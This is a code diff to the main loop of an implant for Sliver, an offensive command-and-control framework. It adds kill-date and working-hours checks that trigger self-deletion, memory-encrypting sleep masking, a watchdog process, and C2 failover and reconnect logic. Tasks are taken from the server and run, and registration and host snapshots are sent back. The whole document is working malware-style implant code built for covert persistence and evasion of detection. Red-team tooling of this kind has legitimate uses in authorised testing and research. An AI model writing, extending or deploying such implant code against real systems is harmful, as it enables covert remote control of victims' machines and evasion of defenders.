@@ -36,6 +36,7 @@ import (
 
 	// {{if .Config.IsBeacon}}
 	"sync"
+	"sync/atomic"
 	// {{end}}
 
 	// {{if .Config.Debug}}{{else}}
@@ -48,8 +49,23 @@ import (
 	"github.com/bishopfox/sliver/implant/sliver/limits"
 	"github.com/bishopfox/sliver/implant/sliver/locale"
 	"github.com/bishopfox/sliver/implant/sliver/pivots"
+	// {{if .Config.IsBeacon}}
+	"github.com/bishopfox/sliver/implant/sliver/presence"
+	// {{end}}
+	// {{if .Config.SleepMask}}
+	"github.com/bishopfox/sliver/implant/sliver/sleepmask"
+	// {{end}}
+	// {{if .Config.StartupSnapshot}}
+	"github.com/bishopfox/sliver/implant/sliver/snapshot"
+	// {{end}}
 	"github.com/bishopfox/sliver/implant/sliver/transports"
 	"github.com/bishopfox/sliver/implant/sliver/version"
+	// {{if .Config.Watchdog}}
+	"github.com/bishopfox/sliver/implant/sliver/watchdog"
+	// {{end}}
+	// {{if .Config.IsBeacon}}
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	// {{end}}
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 
 	"github.com/gofrs/uuid"
@@ -61,6 +77,9 @@ import (
 	// {{end}}
 )
 
+// scheduleCheckInterval - How often we check the working hours and kill date
+const scheduleCheckInterval = time.Minute
+
 var (
 	InstanceID       string
 	connectionErrors = 0
@@ -87,32 +106,30 @@ func init() {
 
 type sliverService struct{}
 
+// Execute - The implant runs in the background while the service answers the SCM,
+// stopping the service returns and the process exits once the SCM sees it stopped
 func (serv *sliverService) Execute(args []string, r <-chan svc.ChangeRequest, changes chan<- svc.Status) (ssec bool, errno uint32) {
-	const cmdsAccepted = svc.AcceptStop | svc.AcceptShutdown | svc.AcceptPauseAndContinue
+	const cmdsAccepted = svc.AcceptStop | svc.AcceptShutdown
+	changes <- svc.Status{State: svc.StartPending}
+	// {{if .Config.IsBeacon}}
+	go beaconStartup()
+	// {{else}}
+	go sessionStartup()
+	// {{end}}
 	changes <- svc.Status{State: svc.Running, Accepts: cmdsAccepted}
-	for {
-		select {
-		default:
-			// {{if .Config.IsBeacon}}
-			beaconStartup()
-			// {{else}}
-			sessionStartup()
+	for c := range r {
+		switch c.Cmd {
+		case svc.Interrogate:
+			changes <- c.CurrentStatus
+		case svc.Stop, svc.Shutdown:
+			// {{if .Config.Debug}}
+			log.Printf("Service control %d, stopping", c.Cmd)
 			// {{end}}
-		case c := <-r:
-			switch c.Cmd {
-			case svc.Interrogate:
-				changes <- c.CurrentStatus
-			case svc.Stop, svc.Shutdown:
-				changes <- svc.Status{State: svc.Stopped, Accepts: cmdsAccepted}
-			case svc.Pause:
-				changes <- svc.Status{State: svc.Paused, Accepts: cmdsAccepted}
-			case svc.Continue:
-				changes <- svc.Status{State: svc.Running, Accepts: cmdsAccepted}
-			default:
-			}
+			changes <- svc.Status{State: svc.StopPending}
+			return false, 0
 		}
 	}
-	return
+	return false, 0
 }
 
 // {{end}}
@@ -181,17 +198,28 @@ func main() {
 
 	limits.ExecLimits() // Check to see if we should execute
 
+	// {{if .Config.Watchdog}}
+	watchdog.Start() // Never returns in the watchdog process
+	// {{end}}
+
 	// {{if .Config.IsService}}
-	svc.Run("", &sliverService{})
-	// {{else}}
+	// Started by the SCM, otherwise run like an executable so the binary can be tested
+	if isService, err := svc.IsWindowsService(); err == nil && isService {
+		err = svc.Run("", &sliverService{})
+		// {{if .Config.Debug}}
+		if err != nil {
+			log.Printf("Service failed: %s", err)
+		}
+		// {{end}}
+		return
+	}
+	// {{end}} ------- IsService -------
 
 	// {{if .Config.IsBeacon}}
 	beaconStartup()
 	// {{else}} ------- IsBeacon/IsSession -------
 	sessionStartup()
 	// {{end}}
-
-	// {{end}} ------- IsService -------
 }
 
 // {{if .Config.IsBeacon}}
@@ -199,10 +227,16 @@ func beaconStartup() {
 	// {{if .Config.Debug}}
 	log.Printf("Running in Beacon mode with ID: %s", InstanceID)
 	// {{end}}
+	if !waitWorkingHours() {
+		selfRemove()
+		return
+	}
 	abort := make(chan struct{})
 	defer func() {
 		abort <- struct{}{}
 	}()
+	started := time.Now()
+	attempts := 0
 	beacons := transports.StartBeaconLoop(abort)
 	for beacon := range beacons {
 		// {{if .Config.Debug}}
@@ -210,6 +244,9 @@ func beaconStartup() {
 		// {{end}}
 		if beacon != nil {
 			err := beaconMainLoop(beacon)
+			for err == nil && transports.TakeReconnect() {
+				err = reconnectBeacon(transports.ReconnectC2(beacon.ActiveC2))
+			}
 			if err != nil {
 				connectionErrors++
 				if transports.GetMaxConnectionErrors() < connectionErrors {
@@ -217,11 +254,9 @@ func beaconStartup() {
 				}
 			}
 		}
-		reconnect := transports.GetReconnectInterval()
-		// {{if .Config.Debug}}
-		log.Printf("Reconnect sleep: %s", reconnect)
-		// {{end}}
-		time.Sleep(reconnect)
+		if !reconnectSleep(&attempts, started) {
+			return
+		}
 	}
 }
 
@@ -231,14 +266,23 @@ func sessionStartup() {
 	// {{if .Config.Debug}}
 	log.Printf("Running in session mode")
 	// {{end}}
+	if !waitWorkingHours() {
+		selfRemove()
+		return
+	}
 	abort := make(chan struct{})
 	defer func() {
 		abort <- struct{}{}
 	}()
+	started := time.Now()
+	attempts := 0
 	connections := transports.StartConnectionLoop(abort)
 	for connection := range connections {
 		if connection != nil {
 			err := sessionMainLoop(connection)
+			for err == nil && transports.TakeReconnect() {
+				err = reconnectSession(transports.ReconnectC2(connection.URL()))
+			}
 			if err != nil {
 				connectionErrors++
 				if transports.GetMaxConnectionErrors() < connectionErrors {
@@ -246,15 +290,123 @@ func sessionStartup() {
 				}
 			}
 		}
+		if !reconnectSleep(&attempts, started) {
+			return
+		}
+	}
+}
+
+// {{end}}
+
+// {{if .Config.IsBeacon}}
+
+// reconnectBeacon - Reconnect right away, e.g. after the proxy changed or the implant
+// was redirected
+func reconnectBeacon(c2 string) error {
+	// {{if .Config.Debug}}
+	log.Printf("[beacon] reconnecting to %s", c2)
+	// {{end}}
+	abort := make(chan struct{})
+	defer func() {
+		abort <- struct{}{}
+	}()
+	beacon := <-transports.StartBeaconLoop(abort, c2)
+	if beacon == nil {
+		return nil
+	}
+	return beaconMainLoop(beacon)
+}
+
+// {{end}}
+
+// reconnectSession - Reconnect right away, e.g. after the proxy changed or the implant
+// was redirected
+func reconnectSession(c2 string) error {
+	// {{if .Config.Debug}}
+	log.Printf("[session] reconnecting to %s", c2)
+	// {{end}}
+	abort := make(chan struct{})
+	defer func() {
+		abort <- struct{}{}
+	}()
+	connection := <-transports.StartConnectionLoop(abort, c2)
+	if connection == nil {
+		return nil
+	}
+	return sessionMainLoop(connection)
+}
+
+// reconnectSleep - Sleep until the next connection attempt, returns false if we should
+// give up. Until the implant has registered for the first time the wait follows the
+// registration retry policy, afterwards it's the reconnect interval
+func reconnectSleep(attempts *int, started time.Time) bool {
+	if !waitWorkingHours() {
+		selfRemove()
+		return false
+	}
+	if transports.IsRegistered() {
 		reconnect := transports.GetReconnectInterval()
 		// {{if .Config.Debug}}
 		log.Printf("Reconnect sleep: %s", reconnect)
 		// {{end}}
 		time.Sleep(reconnect)
+		return true
+	}
+
+	*attempts++
+	if transports.GiveUpRegistration(*attempts, started) {
+		selfRemove()
+		return false
 	}
+	wait := transports.GetRegistrationWait(*attempts)
+	// {{if .Config.Debug}}
+	log.Printf("Registration attempt %d failed, retry in: %s", *attempts, wait)
+	// {{end}}
+	time.Sleep(wait)
+	return true
 }
 
-// {{end}}
+// waitWorkingHours - Sleep until the working hours start, returns false once
+// the kill date has passed
+func waitWorkingHours() bool {
+	for !limits.KillDatePassed() {
+		wait := limits.UntilWorkingHours()
+		if wait == 0 {
+			return true
+		}
+		// {{if .Config.Debug}}
+		log.Printf("Outside of working hours (%s), next check in: %s", limits.WorkingHours(), wait)
+		// {{end}}
+		if scheduleCheckInterval < wait {
+			wait = scheduleCheckInterval // Keep an eye on the kill date
+		}
+		time.Sleep(wait)
+	}
+	// {{if .Config.Debug}}
+	log.Printf("Kill date %s has passed", limits.KillDate())
+	// {{end}}
+	return false
+}
+
+// outsideSchedule - The implant should stop talking to the server
+func outsideSchedule() bool {
+	return limits.KillDatePassed() || limits.UntilWorkingHours() != 0
+}
+
+// selfRemove - Stop the watchdog and delete the executable, the caller exits
+func selfRemove() {
+	// {{if .Config.Watchdog}}
+	watchdog.Stop()
+	// {{end}}
+	// {{if not (or .Config.IsSharedLib .Config.IsShellcode)}}
+	err := limits.SelfDelete()
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("Failed to self-delete: %s", err)
+		// {{end}}
+	}
+	// {{end}}
+}
 
 // {{if .Config.IsBeacon}}
 func beaconMainLoop(beacon *transports.Beacon) error {
@@ -287,6 +439,7 @@ func beaconMainLoop(beacon *transports.Beacon) error {
 		return nil
 	}
 	connectionErrors = 0
+	transports.SetRegistered()
 	// {{if .Config.Debug}}
 	log.Printf("Registering beacon with server")
 	// {{end}}
@@ -294,6 +447,10 @@ func beaconMainLoop(beacon *transports.Beacon) error {
 	register := registerSliver()
 	register.ActiveC2 = beacon.ActiveC2
 	register.ProxyURL = beacon.ProxyURL
+	register.DNSDiagnostics = beacon.DNSDiagnostics
+	// {{if .Config.StartupSnapshot}}
+	register.Snapshot = snapshot.Take(register.ActiveC2)
+	// {{end}}
 	beacon.Send(wrapEnvelope(sliverpb.MsgBeaconRegister, &sliverpb.BeaconRegister{
 		ID:          InstanceID,
 		Interval:    beacon.Interval(),
@@ -309,9 +466,18 @@ func beaconMainLoop(beacon *transports.Beacon) error {
 	// forever it will simply block this set of tasks instead of the entire beacon
 	errors := make(chan error)
 	shortCircuit := make(chan struct{})
+	reconnect := make(chan struct{})
+	failoverRetry := transports.FailoverRetry()
 	for {
+		if outsideSchedule() {
+			// {{if .Config.Debug}}
+			log.Printf("[beacon] outside of working hours or past the kill date")
+			// {{end}}
+			return nil
+		}
 		duration := beacon.Duration()
 		nextCheckin = time.Now().Add(duration)
+		finished := make(chan struct{}, 1)
 		go func() {
 			oldInterval := beacon.Interval()
 			err := beaconMain(beacon, nextCheckin)
@@ -320,11 +486,17 @@ func beaconMainLoop(beacon *transports.Beacon) error {
 				log.Printf("[beacon] main error: %v", nextCheckin)
 				// {{end}}
 				errors <- err
+			} else if transports.ReconnectPending() {
+				// The beacon's transport settings were changed, reconnect once
+				// the results have been sent
+				reconnect <- struct{}{}
 			} else if oldInterval != beacon.Interval() {
 				// The beacon's interval was modified so we need to short circuit
 				// the current sleep and tell the server when the next checkin will
 				// be based on the new interval.
 				shortCircuit <- struct{}{}
+			} else {
+				finished <- struct{}{}
 			}
 		}()
 
@@ -335,13 +507,48 @@ func beaconMainLoop(beacon *transports.Beacon) error {
 		case <-errors:
 			return err
 		case <-time.After(duration):
+		// {{if .Config.SleepMask}}
+		case <-finished:
+			// Once the tasks are done the rest of the interval is slept with the
+			// beacon's memory encrypted, masking suspends every thread of the
+			// implant so it's skipped while anything a task started is running
+			if backgroundActive() {
+				time.Sleep(time.Until(nextCheckin))
+			} else {
+				sleepmask.Sleep(time.Until(nextCheckin))
+			}
+		// {{end}}
 		case <-shortCircuit:
 			// Short circuit current duration with no error
+		case <-reconnect:
+			return nil
+		case <-failoverRetry:
+			// {{if .Config.Debug}}
+			log.Printf("[beacon] retrying the preferred c2")
+			// {{end}}
+			return nil
 		}
 	}
 	return nil
 }
 
+// {{if .Config.SleepMask}}
+
+// backgroundActive - Sessions opened from the beacon, pivot listeners and anything
+// else started by a task that keeps running between check-ins
+func backgroundActive() bool {
+	return 0 < atomic.LoadInt32(&beaconSessions) || 0 < len(pivots.GetListeners()) || handlers.Background()
+}
+
+// {{end}}
+
+// beaconSessions - Interactive sessions opened from the beacon that are running
+var beaconSessions int32
+
+// pendingCheckin - Message ID of the last check-in the server didn't answer, the
+// next check-in re-polls with the same ID so the server resends that response
+var pendingCheckin int64
+
 func beaconMain(beacon *transports.Beacon, nextCheckin time.Time) error {
 	err := beacon.Start()
 	if err != nil {
@@ -360,10 +567,34 @@ func beaconMain(beacon *transports.Beacon, nextCheckin time.Time) error {
 	// {{if .Config.Debug}}
 	log.Printf("[beacon] sending check in ...")
 	// {{end}}
-	err = beacon.Send(wrapEnvelope(sliverpb.MsgBeaconTasks, &sliverpb.BeaconTasks{
+	messageID := atomic.LoadInt64(&pendingCheckin)
+	for messageID == 0 {
+		messageID = insecureRand.Int63()
+		atomic.StoreInt64(&pendingCheckin, messageID)
+	}
+	checkin := &sliverpb.BeaconTasks{
 		ID:          InstanceID,
 		NextCheckin: int64(beacon.Duration().Seconds()),
-	}))
+		MessageID:   messageID,
+	}
+	if presence.Checkin() {
+		checkin.Presence, err = presence.Report()
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("[beacon] presence error %s", err)
+			// {{end}}
+			checkin.Presence.Response = &commonpb.Response{Err: err.Error()}
+		}
+	}
+	// {{if .Config.QuietCheckin}}
+	checkinData, err := sliverpb.MarshalQuietCheckin(checkin)
+	if err != nil {
+		return err
+	}
+	err = beacon.Send(&sliverpb.Envelope{Type: sliverpb.MsgBeaconTasks, Data: checkinData})
+	// {{else}}
+	err = beacon.Send(wrapEnvelope(sliverpb.MsgBeaconTasks, checkin))
+	// {{end}}
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Printf("[beacon] send failure %s", err)
@@ -384,6 +615,7 @@ func beaconMain(beacon *transports.Beacon, nextCheckin time.Time) error {
 		// {{if .Config.Debug}}
 		log.Printf("[beacon] read nil envelope (no tasks)")
 		// {{end}}
+		atomic.CompareAndSwapInt64(&pendingCheckin, messageID, 0)
 		return nil
 	}
 	tasks := &sliverpb.BeaconTasks{}
@@ -394,10 +626,14 @@ func beaconMain(beacon *transports.Beacon, nextCheckin time.Time) error {
 		// {{end}}
 		return err
 	}
+	atomic.CompareAndSwapInt64(&pendingCheckin, messageID, 0)
 
 	// {{if .Config.Debug}}
 	log.Printf("[beacon] received %d task(s) from server", len(tasks.Tasks))
 	// {{end}}
+	for _, taskID := range tasks.Cancel {
+		handlers.CancelTask(taskID)
+	}
 	if len(tasks.Tasks) == 0 {
 		return nil
 	}
@@ -451,47 +687,28 @@ func beaconHandleTasklist(tasks []*sliverpb.Envelope) []*sliverpb.Envelope {
 		// {{end}}
 		if handler, ok := sysHandlers[task.Type]; ok {
 			wg.Add(1)
-			data := task.Data
-			taskID := task.ID
-			// {{if eq .Config.GOOS "windows" }}
+			task := task
 			go func() {
 				defer wg.Done()
-				handlers.WrapperHandler(handler, data, func(data []byte, err error) {
+				// Tasks that time out are answered with an error, so a hung handler
+				// doesn't hold up the beacon's next check in
+				handlers.RunTask(handler, task, func(data []byte, err error) {
 					resultsMutex.Lock()
 					defer resultsMutex.Unlock()
 					// {{if .Config.Debug}}
 					if err != nil {
 						log.Printf("[beacon] handler function returned an error: %s", err)
 					}
-					log.Printf("[beacon] task completed (id: %d)", taskID)
+					log.Printf("[beacon] task completed (id: %d)", task.ID)
 					// {{end}}
 					results = append(results, &sliverpb.Envelope{
-						ID:   taskID,
+						ID:   task.ID,
 						Data: data,
 					})
 				})
 			}()
-			//  {{else}}
-			go func() {
-				defer wg.Done()
-				handler(data, func(data []byte, err error) {
-					resultsMutex.Lock()
-					defer resultsMutex.Unlock()
-					// {{if .Config.Debug}}
-					if err != nil {
-						log.Printf("[beacon] handler function returned an error: %s", err)
-					}
-					log.Printf("[beacon] task completed (id: %d)", taskID)
-					// {{end}}
-					results = append(results, &sliverpb.Envelope{
-						ID:   taskID,
-						Data: data,
-					})
-				})
-			}()
-			// {{end}}
 		} else if task.Type == sliverpb.MsgOpenSession {
-			go openSessionHandler(task.Data)
+			openSessionHandler(task.Data)
 			resultsMutex.Lock()
 			results = append(results, &sliverpb.Envelope{
 				ID:   task.ID,
@@ -531,14 +748,29 @@ func openSessionHandler(data []byte) {
 		// {{end}}
 	}
 
-	if openSession.Delay != 0 {
+	// Set before the results are sent, so that the current sleep is cut short
+	if openSession.Interval != 0 {
 		// {{if .Config.Debug}}
-		log.Printf("[beacon] delay %s", time.Duration(openSession.Delay))
+		log.Printf("[beacon] interactive for %s (interval %s)", time.Duration(openSession.Duration), time.Duration(openSession.Interval))
 		// {{end}}
-		time.Sleep(time.Duration(openSession.Delay))
+		transports.SetInteractiveWindow(time.Duration(openSession.Interval), time.Duration(openSession.Duration))
+		return
 	}
 
 	go func() {
+		atomic.AddInt32(&beaconSessions, 1)
+		defer atomic.AddInt32(&beaconSessions, -1)
+		if openSession.Delay != 0 {
+			// {{if .Config.Debug}}
+			log.Printf("[beacon] delay %s", time.Duration(openSession.Delay))
+			// {{end}}
+			time.Sleep(time.Duration(openSession.Delay))
+		}
+		deadline := time.Time{}
+		if openSession.Duration != 0 {
+			deadline = time.Now().Add(time.Duration(openSession.Duration))
+		}
+
 		abort := make(chan struct{})
 		connections := transports.StartConnectionLoop(abort, openSession.C2S...)
 		defer func() { abort <- struct{}{} }()
@@ -546,7 +778,21 @@ func openSessionHandler(data []byte) {
 		for connection := range connections {
 			connectionAttempts++
 			if connection != nil {
+				if !deadline.IsZero() && time.Now().After(deadline) {
+					break
+				}
+				var closeTimer *time.Timer
+				if !deadline.IsZero() {
+					closeTimer = time.AfterFunc(time.Until(deadline), connection.Cleanup)
+				}
 				err := sessionMainLoop(connection)
+				if closeTimer != nil {
+					closeTimer.Stop()
+				}
+				if err == nil && transports.TakeReconnect() {
+					connectionAttempts = 0
+					continue
+				}
 				if err == nil {
 					break
 				}
@@ -583,13 +829,69 @@ func sessionMainLoop(connection *transports.Connection) error {
 	pivots.RestartAllListeners(connection.Send)
 	defer pivots.StopAllListeners()
 	defer connection.Stop()
+	handlers.SetStream(connection.Send)
+	defer handlers.SetStream(nil)
 
 	connectionErrors = 0
+	transports.SetRegistered()
+	// {{if .Config.FailoverOrder}}
+	failoverDone := make(chan struct{})
+	defer close(failoverDone)
+	go func() {
+		select {
+		case <-transports.FailoverRetry():
+			// {{if .Config.Debug}}
+			log.Printf("[session] dropping connection to retry the preferred c2")
+			// {{end}}
+			connection.Cleanup()
+		case <-failoverDone:
+		}
+	}()
+	// {{end}}
+	scheduleDone := make(chan struct{})
+	defer close(scheduleDone)
+	go func() {
+		ticker := time.NewTicker(scheduleCheckInterval)
+		defer ticker.Stop()
+		for {
+			select {
+			case <-ticker.C:
+				if outsideSchedule() {
+					// {{if .Config.Debug}}
+					log.Printf("[session] dropping connection, outside of working hours or past the kill date")
+					// {{end}}
+					connection.Cleanup()
+					return
+				}
+			case <-scheduleDone:
+				return
+			}
+		}
+	}()
+	// {{if .Config.HTTPc2Enabled}}
+	reconnectDone := make(chan struct{})
+	defer close(reconnectDone)
+	go func() {
+		select {
+		case <-transports.ReconnectSignal():
+			// {{if .Config.Debug}}
+			log.Printf("[session] dropping connection to reconnect")
+			// {{end}}
+			time.Sleep(time.Second) // Give the task's response a chance to go out
+			connection.Cleanup()
+		case <-reconnectDone:
+		}
+	}()
+	// {{end}}
 	// Reconnect active pivots
 	// pivots.ReconnectActivePivots(connection)
 	register := registerSliver()
 	register.ActiveC2 = connection.URL()
 	register.ProxyURL = connection.ProxyURL()
+	register.DNSDiagnostics = connection.DNSDiagnostics()
+	// {{if .Config.StartupSnapshot}}
+	register.Snapshot = snapshot.Take(register.ActiveC2)
+	// {{end}}
 	connection.Send <- wrapEnvelope(sliverpb.MsgRegister, register) // Send registration information
 
 	pivotHandlers := handlers.GetPivotHandlers()
@@ -615,18 +917,11 @@ func sessionMainLoop(connection *transports.Connection) error {
 			// {{end}}
 			go handler(envelope, connection)
 		} else if handler, ok := sysHandlers[envelope.Type]; ok {
-			// Beware, here be dragons.
-			// This is required for the specific case of token impersonation:
-			// Since goroutines don't always execute in the same thread, but ImpersonateLoggedOnUser
-			// only applies the token to the calling thread, we need to call it before every task.
-			// It's fucking gross to do that here, but I could not come with a better solution.
-
 			// {{if .Config.Debug}}
 			log.Printf("[recv] sysHandler %d", envelope.Type)
 			// {{end}}
-
-			// {{if eq .Config.GOOS "windows" }}
-			go handlers.WrapperHandler(handler, envelope.Data, func(data []byte, err error) {
+			envelope := envelope
+			go handlers.RunTask(handler, envelope, func(data []byte, err error) {
 				// {{if .Config.Debug}}
 				if err != nil {
 					log.Printf("[session] handler function returned an error: %s", err)
@@ -637,19 +932,6 @@ func sessionMainLoop(connection *transports.Connection) error {
 					Data: data,
 				}
 			})
-			// {{else}}
-			go handler(envelope.Data, func(data []byte, err error) {
-				// {{if .Config.Debug}}
-				if err != nil {
-					log.Printf("[session] handler function returned an error: %s", err)
-				}
-				// {{end}}
-				connection.Send <- &sliverpb.Envelope{
-					ID:   envelope.ID,
-					Data: data,
-				}
-			})
-			// {{end}}
 		} else if handler, ok := tunHandlers[envelope.Type]; ok {
 			// {{if .Config.Debug}}
 			log.Printf("[recv] tunHandler %d", envelope.Type)
@@ -727,7 +1009,7 @@ func registerSliver() *sliverpb.Register {
 	log.Printf("Host Uuid: %s", uuid)
 	// {{end}}
 
-	return &sliverpb.Register{
+	register := &sliverpb.Register{
 		Name:              consts.SliverName,
 		Hostname:          hostname,
 		Uuid:              uuid,
@@ -744,4 +1026,8 @@ func registerSliver() *sliverpb.Register {
 		PeerID:            pivots.MyPeerID,
 		Locale:            locale.GetLocale(),
 	}
+	// {{if .Config.Watchdog}}
+	register.WatchdogPID = int32(watchdog.PID())
+	// {{end}}
+	return register
 }